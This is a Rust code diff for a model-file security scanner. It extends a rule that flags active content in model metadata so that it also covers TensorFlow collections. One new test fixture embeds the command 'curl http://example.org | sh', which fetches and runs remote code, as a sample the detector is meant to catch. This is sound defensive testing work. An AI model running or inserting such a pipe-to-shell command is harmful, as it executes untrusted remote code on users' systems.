@@ -5,6 +5,7 @@ use weighbridge_domain::{Confidence, Severity};
 use crate::facts::Facts;
 use crate::rules::{Check, Example, Findings, Light, Rule};
 use crate::samples::graph::Onnx;
+use crate::samples::tensorflow;
 use crate::samples::{File, boosting, one, tensor};
 use crate::text;
 
@@ -135,6 +136,16 @@ pub static RULE: Rule = Rule {
             },
             fires: &[],
         },
+        Example {
+            name: "tensorflow-collection",
+            files: || tensorflow::ordinary().collection("demo", b"curl http://example.org | sh").files(),
+            fires: &["metadata-active-content"],
+        },
+        Example {
+            name: "tensorflow-collection-twin",
+            files: || tensorflow::ordinary().collection("demo", b"just words").files(),
+            fires: &[],
+        },
     ],
     check: Check::File(check),
 };
@@ -153,11 +164,12 @@ fn encoded(length: usize) -> String {
 
 fn check(facts: &Facts, findings: &mut Findings<'_>) {
     for (place, key, value) in facts.metadata() {
-        if !matches!(
-            place.format(),
+        let format = place.format();
+        let read = matches!(
+            format,
             "catboost" | "coreml" | "gguf" | "lightgbm" | "onnx" | "safetensors" | "xgboost"
-        ) || key.starts_with("tokenizer.")
-        {
+        ) || format.starts_with("tensorflow");
+        if !read || key.starts_with("tokenizer.") {
             continue;
         }
         for what in [markup(value), command(value), path(key, value), code(value)].into_iter().flatten() {
